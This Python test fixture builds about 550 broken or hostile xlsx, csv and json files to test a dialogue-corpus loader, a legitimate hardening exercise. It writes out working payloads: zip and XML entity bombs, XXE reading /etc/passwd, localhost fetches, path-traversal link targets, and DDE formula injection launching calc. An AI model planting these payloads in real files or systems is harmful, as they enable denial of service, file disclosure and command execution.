"""Some 550 corpus files that somebody broke, on purpose or not; the same ones at every call.

Each is (kind, suffix, content); the kinds are the ones that the tests promise. Whatever a file says
holds CANARY, which no message may repeat.
"""

import datetime
import json
import random
import zipfile
from collections.abc import Iterable, Iterator
from io import BytesIO
from itertools import chain, islice, product, repeat

import xlsxwriter

CANARY = "비밀일기"
HEADER = ("감정_대분류", "감정_소분류", "사람문장1", "사람문장2")
ROWS = [
    (label, fine, f"{CANARY} {number} 오늘 합격했어", f"둘째 {number}")
    for number, (label, fine) in enumerate(
        [("기쁨", "감사하는"), ("분노", "짜증내는"), ("불안", "초조한")] * 4
    )
]
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
BOOK, LINKS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
# What a program that opens workbooks looks at first; without it, it never sees the attack.
ROOT_LINK = f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="{BOOK}"/>'
Content = str | bytes | Iterable[str | bytes]
File = tuple[str, str, bytes]


# Workbooks. Made by a library, with all the parts that Excel writes


def made_by_library() -> bytes:
    """The rows through shared strings; openpyxl would write them into their cells."""
    buffer = BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.set_properties({"created": datetime.datetime(2000, 1, 1)})
        sheet = book.add_worksheet("Sheet1")
        for number, texts in enumerate([HEADER, *ROWS]):
            sheet.write_row(number, 0, texts)
    return buffer.getvalue()


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# Made by hand: what a library would refuse to write is the point


def cell(column: int, row: int, text: str, more: str = "") -> str:
    return f'<c r="{"ABCDEFGHIJ"[column]}{row}" t="inlineStr"{more}><is><t>{text}</t></is></c>'


def row(number: int, texts: Iterable[str]) -> str:
    cells = "".join(cell(column, number, text) for column, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


def sheet(*rows: Content, after: str = "") -> list[Content]:
    """The sheet's XML: the header, some pieces as they are, then what follows the rows."""
    start = f"{XML}<worksheet {MAIN}><sheetData>{row(1, HEADER)}"
    return [start, *rows, f"</sheetData>{after}</worksheet>"]


def good_rows(start: int = 2) -> str:
    return "".join(row(number, texts) for number, texts in enumerate(ROWS, start=start))


def shared_rows() -> str:
    """The same rows through shared strings."""
    rows = []
    for number in range(2, len(ROWS) + 2):
        cells = [
            f'<c r="{letter}{number}" t="s"><v>{4 * (number - 2) + place}</v></c>'
            for place, letter in enumerate("ABCD")
        ]
        rows.append(f'<row r="{number}">{"".join(cells)}</row>')
    return "".join(rows)


def strings(texts: Iterable[str]) -> list[Content]:
    items = (f"<si><t>{text}</t></si>" for text in texts)
    return [f"{XML}<sst {MAIN}>", items, "</sst>"]


def parts_of(sheets: Iterable[tuple[str, str]] = (("Sheet1", "visible"),)) -> dict[str, Content]:
    listed = "".join(
        f'<sheet name="{name}" sheetId="{n}" state="{state}" r:id="rId{n}"/>'
        for n, (name, state) in enumerate(sheets, start=1)
    )
    links = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n, _ in enumerate(sheets, start=1)
    )
    links += f'<Relationship Id="rId99" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    return {
        "[Content_Types].xml": (
            f'{XML}<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
            "</Types>"
        ),
        "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}">{ROOT_LINK}</Relationships>',
        BOOK: f'{XML}<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>',
        LINKS: f'{XML}<Relationships xmlns="{PACKAGE}">{links}</Relationships>',
        SHEET: sheet(shared_rows()),
        STRINGS: strings(chain.from_iterable(ROWS)),
    }


def workbook(changes: dict[str, Content | None] | None = None, **more: object) -> bytes:
    """A workbook by hand; a part that is changed to None is left out."""
    return zipped({**parts_of(**more), **(changes or {})})


def zipped(parts: dict[str, Content | None]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            if content is None:
                continue
            member = zipfile.ZipInfo(name)
            member.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(member, "w", force_zip64=True) as file:
                pieces = flat(content)  # up to some million: thousands go into one write
                while joined := b"".join(islice(pieces, 4096)):
                    file.write(joined)
    return buffer.getvalue()


def flat(content: Content) -> Iterator[bytes]:
    if isinstance(content, bytes):
        yield content
    elif isinstance(content, str):
        yield content.encode()
    else:
        for piece in content:
            yield from flat(piece)


def with_sheet(*rows: Content, after: str = "", **more: Content) -> bytes:
    return workbook({SHEET: sheet(*rows, after=after)})


def patched(content: bytes, offset: int, value: int, width: int = 4) -> bytes:
    """The zip with a field of the first big member's central directory entry changed."""
    place = content.rindex(b"PK\x01\x02") + offset
    return content[:place] + value.to_bytes(width, "little") + content[place + width :]


# The other formats


def item(*turns: object, code: object = "E61") -> dict:
    content = {f"HS0{n}": turn for n, turn in enumerate(turns, start=1)}
    return {"profile": {"emotion": {"type": code}}, "talk": {"content": content}}


ITEMS = [item(*texts, code=f"E{10 * n % 60 + 10}") for n, (_, _, *texts) in enumerate(ROWS)]


def json_text(items: object = ITEMS) -> bytes:
    return json.dumps(items, ensure_ascii=False).encode("utf-8", "surrogatepass")


def jsonl_text(items: Iterable[object] = ITEMS) -> bytes:
    return b"\n".join(json_text(each) for each in items)


def csv_text(rows: Iterable[Iterable[str]] = ROWS) -> bytes:
    lines = (",".join(f'"{text}"' for text in each) for each in chain([HEADER], rows))
    return "\r\n".join(lines).encode("utf-8", "surrogatepass")


# What is done to them


def flipped(content: bytes, rng: random.Random) -> bytes:
    damaged = bytearray(content)
    for _ in range(rng.choice((1, 1, 2, 5, 20))):
        damaged[rng.randrange(len(damaged))] ^= 1 << rng.randrange(8)
    return bytes(damaged)


def generic(seed: int = 20) -> Iterator[File]:
    """Bit flips and truncation of each format, and of the XML inside a whole zip."""
    rng = random.Random(seed)
    good = made_by_library()
    bases = {".xlsx": good, ".json": json_text(), ".jsonl": jsonl_text(), ".csv": csv_text()}
    for suffix, content in bases.items():
        for _ in range(50 if suffix == ".xlsx" else 20):
            yield "bit flips", suffix, flipped(content, rng)
        for _ in range(16 if suffix == ".xlsx" else 8):
            yield "truncation", suffix, content[: rng.randrange(len(content))]
    parts = members(good)
    for name, times in ((SHEET, 30), (STRINGS, 15), (BOOK, 15), (LINKS, 15)):
        for _ in range(times):
            yield "bit flips", ".xlsx", zipped({**parts, name: flipped(parts[name], rng)})
        for _ in range(3):
            cut = parts[name][: rng.randrange(len(parts[name]))]
            yield "truncation", ".xlsx", zipped({**parts, name: cut})
        yield "truncation", ".xlsx", zipped({**parts, name: None})


def bombs() -> Iterator[File]:
    zeros = bytes(2**20)
    yield "zip bombs", ".xlsx", workbook({"xl/media/a.bin": repeat(zeros, 600)})
    yield "zip bombs", ".xlsx", with_sheet(repeat(b" " * 2**20, 400))
    yield "zip bombs", ".xlsx", with_sheet("<!--", repeat(b"-a" * 2**19, 100), "-->")
    yield "zip bombs", ".xlsx", with_sheet(f'<row r="2" a="{"x" * 2**24}"/>')
    yield "zip bombs", ".xlsx", with_sheet(repeat("<a/>" * 100_000, 130))
    yield "zip bombs", ".xlsx", with_sheet(repeat("<a>" * 100_000, 80))
    yield "zip bombs", ".xlsx", with_sheet(f"<t{n}/>" for n in range(400_000))
    yield "zip bombs", ".xlsx", workbook({BOOK: [XML, "<workbook>", repeat(zeros, 50)]})
    lying = workbook({"xl/z.bin": repeat(zeros, 100)})
    yield "zip bombs", ".xlsx", patched(lying, 24, 3 * 2**30)  # declares more than it has
    whole = workbook({STRINGS: strings(["x" * 2**24])})
    yield "zip bombs", ".xlsx", patched(whole, 24, 100)  # declares less
    yield "zip bombs", ".xlsx", patched(workbook(), 10, 14, 2)  # LZMA
    yield "zip bombs", ".xlsx", workbook({f"xl/{n}": b"" for n in range(20_000)})
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else f'<!ENTITY l0 "{CANARY}">'
        for n in range(9)
    )
    outside = '<!ENTITY x SYSTEM "file:///etc/passwd">'
    for declared, used in (
        (laughs, "&l8;"),
        (f'<!ENTITY q "{"a" * 100_000}">', "&q;" * 30_000),
        (outside, "&x;"),
        ('<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;', "a"),
    ):
        doctype = f"{XML}<!DOCTYPE sst [{declared}]>"
        shared = [doctype, f"<sst {MAIN}>", f"<si><t>{used}</t></si>" * 60, "</sst>"]
        yield "XML entity bombs", ".xlsx", workbook({STRINGS: shared})
        body = [doctype.replace("sst", "worksheet", 1), *sheet(row(2, [used] * 4))]
        body[1] = body[1].removeprefix(XML)
        yield "XML entity bombs", ".xlsx", workbook({SHEET: body})
        listed = str(parts_of()[BOOK]).replace(XML, doctype).replace("Sheet1", used[:10])
        yield "XML entity bombs", ".xlsx", workbook({BOOK: listed})


def large() -> Iterator[File]:
    million = "x" * 1_000_000
    uses = "".join(
        f'<row r="{n}">{cell(0, n, "기쁨")}<c r="C{n}" t="s"><v>0</v></c>'
        f'<c r="D{n}" t="s"><v>0</v></c></row>'
        for n in range(2, 3000)
    )
    yield (
        "huge shared strings",
        ".xlsx",
        workbook({SHEET: sheet(uses), STRINGS: strings([million])}),
    )
    yield "huge shared strings", ".xlsx", workbook({STRINGS: strings(repeat("", 3_100_000))})
    yield "huge shared strings", ".xlsx", workbook({STRINGS: strings(repeat("가" * 999, 150_000))})
    yield "huge shared strings", ".xlsx", workbook({STRINGS: strings([million * 40])})
    yield "huge shared strings", ".xlsx", workbook({SHEET: sheet(shared_rows()), STRINGS: None})
    for place in ("9" * 30, "-1", "4000000000", "가"):
        wrong = shared_rows().replace("<v>5</v>", f"<v>{place}</v>")
        yield "huge shared strings", ".xlsx", workbook({SHEET: sheet(wrong)})

    wide = "<c><v>1</v></c>" * 16_384
    yield "16,384 columns", ".xlsx", with_sheet(good_rows(), f'<row r="40">{wide}</row>')
    yield "16,384 columns", ".xlsx", with_sheet(good_rows(), f'<row r="40">{wide}<c/></row>')
    yield "16,384 columns", ".xlsx", with_sheet(repeat(f"<row>{wide}</row>", 60))
    narrow = "<row><c><v>1</v></c></row>"
    yield "16,384 columns", ".xlsx", with_sheet(f"<row>{wide}</row>", repeat(narrow * 1000, 300))
    for corner in ('r="XFD1048576"', "r = 'XFD1048576'", 'r="XFE1"', 'r="AAAAAAA1"', 'r="a1"'):
        stray = f'<row r="1048576"><c {corner}><v>1</v></c></row>'
        yield "16,384 columns", ".xlsx", with_sheet(good_rows(), stray)
    header = ",".join([*HEADER, *(f"c{n}" for n in range(16_380))])
    lines = "\n".join(",".join([*texts, "," * 16_379]) for texts in ROWS)
    yield "16,384 columns", ".csv", f"{header}\n{lines}".encode()

    empty = (f'<row r="{n}"/>' for n in range(100, 1_000_100))
    yield "a million empty rows", ".xlsx", with_sheet(good_rows(), empty)
    yield "a million empty rows", ".xlsx", with_sheet(good_rows(), repeat("<row/>" * 1000, 1000))
    yield "a million empty rows", ".xlsx", with_sheet(repeat("<row/>" * 1000, 1100))
    styled = (f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(100, 1_000_100))
    yield "a million empty rows", ".xlsx", with_sheet(good_rows(), styled)
    yield "a million empty rows", ".csv", csv_text() + b"\r\n" * 1_000_000
    yield "a million empty rows", ".csv", csv_text() + b",,,\r\n" * 1_000_000
    yield "a million empty rows", ".jsonl", jsonl_text() + b"\n" * 1_000_000
    yield "a million empty rows", ".json", json_text()[:-1] + b" \n" * 1_000_000 + b"]"
    yield "a million empty rows", ".json", b"[" + b"{}," * 1_000_000 + b"{}]"

    for size, label in ((1_000_000, "기쁨"), (1_000_000, "글" * 1_000_000), (5_000_000, "기쁨")):
        text = "글" * size
        yield "1 MB cells", ".xlsx", with_sheet(good_rows(), row(40, [label, "", text, text]))
        yield "1 MB cells", ".csv", csv_text([*ROWS, (label, "", text, text)])
        yield "1 MB cells", ".json", json_text([*ITEMS, item(text, code=label)])
        yield "1 MB cells", ".jsonl", jsonl_text([*ITEMS, item(text, text)])
    yield "1 MB cells", ".csv", csv_text() + b'\r\n"' + CANARY.encode() * 2_000_000
    yield "1 MB cells", ".csv", csv_text() + b"\r\n" + b'"\n",' * 3_000_000
    yield "1 MB cells", ".csv", b"," * 12_000_000
    yield "1 MB cells", ".json", b"[" + b"[]," * 4_000_000
    yield "1 MB cells", ".json", b"[[" + b"[]," * 4_000_000
    yield "1 MB cells", ".json", b"[" * 1_000_000
    yield "1 MB cells", ".json", b'[{"a":' * 500_000
    yield "1 MB cells", ".jsonl", b"9" * 1_000_000
    yield "1 MB cells", ".jsonl", b'{"a":' * 100_000
    labels = [(f"{CANARY}{n}", "", "가", "나") for n in range(100_000)]
    yield "1 MB cells", ".csv", csv_text(labels)


def misused() -> Iterator[File]:
    """What a spreadsheet may hold, but not as a dialogue; and what is no .xlsx at all."""
    bad = {
        "formulas": [
            '<c r="C20"><f>HYPERLINK("http://127.0.0.1/"&amp;C2,"클릭")</f><v>1</v></c>',
            f'<c r="C20" t="str"><f>"{CANARY}"</f><v>{CANARY}</v></c>',
            '<c r="A20" t="str"><f>cmd|\' /c calc\'!A0</f><v>기쁨</v></c>',
            '<c r="B20"><f t="shared" ref="B20:B90" si="0">ROW()</f></c>',
            '<c r="H20"><f>1+1</f><v>2</v></c>',
        ],
        "wrong types": [
            '<c r="C20"><v>3.5</v></c>',
            '<c r="A20" t="b"><v>1</v></c>',
            '<c r="C20" t="e"><v>#REF!</v></c>',
            '<c r="C20" t="d"><v>2024-05-01</v></c>',
            '<c r="C20" t="nonsense"><v>1</v></c>',
            '<c r="C20" t="s"><v>한글</v></c>',
            '<c r="C20" t="s"/>',
            '<c r="C20"><v/></c>',
        ],
    }
    for kind, cells in bad.items():
        for each in cells:
            rest = cell(0, 20, "기쁨") if "A20" not in each else ""
            yield kind, ".xlsx", with_sheet(good_rows(), f'<row r="20">{rest}{each}</row>')
    for value in (1, 2.5, True, None, [], {}, ["가"], {"가": "나"}, "E99", CANARY, "1e999", -0.0):
        for wrong in (item(value), item(CANARY, code=value), value, {"profile": value}):
            yield "wrong types", ".json", json_text([*ITEMS, wrong])
        yield "wrong types", ".jsonl", jsonl_text([*ITEMS, {"profile": {"emotion": value}}])
    for text in (b"NaN", b"-Infinity", b'{"a": 1, "a": 2}', b'"a"', b"[] []", b"[1,]", b"[,1]"):
        yield "wrong types", ".json", text
    yield "formulas", ".csv", csv_text([*ROWS, ("기쁨", "", f"=cmd|'/c calc'!A0 {CANARY}", "+1")])

    for merged in ("A1:D1", "C2:D9", "A2:A13", "A1:XFD1048576"):
        after = f'<mergeCells count="1"><mergeCell ref="{merged}"/></mergeCells>'
        yield "merged cells", ".xlsx", with_sheet(good_rows(), after=after)
    hole = "".join(row(n, [*("기쁨" if n == 2 else "", "", CANARY, "")]) for n in range(2, 9))
    yield "merged cells", ".xlsx", with_sheet(hole)
    for states in product(("visible", "hidden", "veryHidden", CANARY), repeat=2):
        sheets = [(f"Sheet{n}", state) for n, state in enumerate(states)]
        second = {"xl/worksheets/sheet2.xml": sheet(good_rows())}
        yield "hidden sheets", ".xlsx", workbook(second, sheets=sheets)

    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    encrypted = ole + bytes(480) + "EncryptedPackage".encode("utf-16-le") + bytes(4000)
    yield "password protection", ".xlsx", encrypted
    yield "password protection", ".xlsx", patched(workbook(), 8, 1, 2)
    yield "an xls or HTML file named xlsx", ".xlsx", ole + "Workbook".encode("utf-16-le") * 99
    yield "an xls or HTML file named xlsx", ".xlsx", b"\x09\x08\x10\x00\x00\x06\x05\x00" * 99
    for page in (
        f'<html><meta charset="utf-8"><table><tr><td>{CANARY}</table></html>',
        f'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        f"{CANARY}</Workbook>",
        f"감정_대분류,사람문장1\n기쁨,{CANARY}\n",
    ):
        yield "an xls or HTML file named xlsx", ".xlsx", page.encode()
    no_book = dict.fromkeys(parts_of())
    ods = workbook({**no_book, "mimetype": "application/vnd.oasis", "content.xml": "<a/>"})
    yield "an xls or HTML file named xlsx", ".xlsx", ods
    yield "an xls or HTML file named xlsx", ".xlsx", workbook({**no_book, "xl/workbook.bin": b"1"})

    hyperlink = f'<hyperlinks><hyperlink ref="C2" location="{CANARY}"/></hyperlinks>'
    yield "external links", ".xlsx", with_sheet(good_rows(), after=hyperlink)
    link = '<externalLink><externalBook r:id="rId1"/></externalLink>'
    yield "external links", ".xlsx", workbook({"xl/externalLinks/externalLink1.xml": link})
    for target in ("file:///etc/passwd", "http://127.0.0.1:9/a.xml", "../../../etc/passwd", "/"):
        links = str(parts_of()[LINKS]).replace(
            'Target="worksheets/sheet1.xml"', f'TargetMode="External" Target="{target}"'
        )
        yield "external links", ".xlsx", workbook({LINKS: links})


def characters() -> Iterator[File]:
    """Control characters, half surrogate pairs, marks that turn the text around."""
    marks = {
        "control characters": ["\x00", "\x07\x1b[31m", "\x85\u2028", "\ufeff", "\x7f\r", "\x0b"],
        "lone surrogates": ["\ud800", "\udfff \ud800", "\udcff"],
        "right-to-left marks": ["\u202e\u2066", "\u200f" * 1000, "\u202e\u05d0"],
    }
    for kind, texts in marks.items():
        for text in texts:
            turns = (f"{CANARY}{text}끝", text)
            yield kind, ".json", json.dumps([*ITEMS, item(*turns)]).encode()
            yield kind, ".json", json_text([*ITEMS, item("가", code=text)])
            yield kind, ".jsonl", jsonl_text([*ITEMS, item(*turns), item(text)])
            yield kind, ".csv", csv_text([*ROWS, ("기쁨", "", *turns), (text, text, text, text)])
            raw = row(40, ["기쁨", "", *turns]).encode("utf-8", "surrogatepass")
            yield kind, ".xlsx", with_sheet(good_rows(), raw)
            spelt = "".join(f"_x{ord(letter):04X}_" for letter in text)
            yield kind, ".xlsx", with_sheet(good_rows(), row(40, ["기쁨", "", spelt, CANARY]))
            named = "".join(f"&#{ord(letter)};" for letter in text)
            yield kind, ".xlsx", with_sheet(good_rows(), row(40, ["기쁨", "", named, CANARY]))
    whole = b"".join(flat(sheet(good_rows()))).decode().removeprefix(XML)
    for encoding in ("utf-16", "utf-7", "rot13", "cp949", "ucs-4", "idna", "한글"):
        text = f"<?xml version='1.0' encoding='{encoding}'?>{whole}"
        content = text.encode("utf-16" if encoding == "utf-16" else "utf-8")
        yield "control characters", ".xlsx", workbook({SHEET: content})
    for encoding in ("utf-16", "utf-32", "cp949", "euc-kr", "utf-8-sig"):
        content = csv_text().decode().encode(encoding)
        yield "control characters", ".csv", content
        yield "control characters", ".json", json_text().decode().encode(encoding)


def disorder() -> Iterator[File]:
    """XML that is well-formed and no sheet."""
    for inside in (
        row(9, ROWS[0]) + row(5, ROWS[1]),
        row(5, ROWS[0]) * 2,
        f'<row r="{"9" * 5000}"/>',
        f'<row r="-5">{cell(2, 5, CANARY)}</row>',
        '<row r="1e3"/>',
        f'<row r="20">{cell(3, 20, "가")}{cell(2, 20, "나")}</row>',
        f'<row r="20">{cell(2, 20, "가") * 2}</row>',
        f'<row r="20">{cell(2, 20, cell(3, 20, "가"))}</row>',
        "<row><row><row/></row></row>",
        "<t>밖의 글</t><v>1</v><f>1</f>" + good_rows(30),
        good_rows().replace("<row", "<x:row").replace("</row", "</x:row"),
    ):
        yield "wrong types", ".xlsx", with_sheet(inside)
    yield "wrong types", ".xlsx", workbook({SHEET: "<worksheet/>"})
    yield "wrong types", ".xlsx", workbook({SHEET: good_rows()})
    yield "wrong types", ".xlsx", workbook({STRINGS: "<sst><si><si><t>a</t></si></si></sst>"})
    yield "wrong types", ".xlsx", workbook({BOOK: "<workbook/>"})


def hostile_files() -> Iterator[File]:
    for files in (generic, bombs, large, misused, characters, disorder):
        yield from files()


KINDS = {
    "bit flips",
    "truncation",
    "zip bombs",
    "XML entity bombs",
    "external links",
    "formulas",
    "huge shared strings",
    "16,384 columns",
    "a million empty rows",
    "wrong types",
    "merged cells",
    "hidden sheets",
    "password protection",
    "an xls or HTML file named xlsx",
    "control characters",
    "lone surrogates",
    "right-to-left marks",
    "1 MB cells",
}
